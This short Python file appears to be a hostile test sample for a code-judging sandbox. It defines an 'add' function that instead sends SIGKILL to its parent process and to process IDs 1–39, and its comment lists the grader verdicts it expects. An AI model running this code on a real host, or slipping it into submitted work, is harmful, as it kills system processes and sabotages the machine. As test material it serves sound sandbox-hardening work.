# Kills its parent and the numbers around it.
# verdict: crashed raised wrong-answer
import ctypes, posix

def add(a, b):
    libc = ctypes.CDLL(None)
    for pid in {posix.getppid(), *range(1, 40)} - {posix.getpid()}:
        libc.kill(pid, 9)
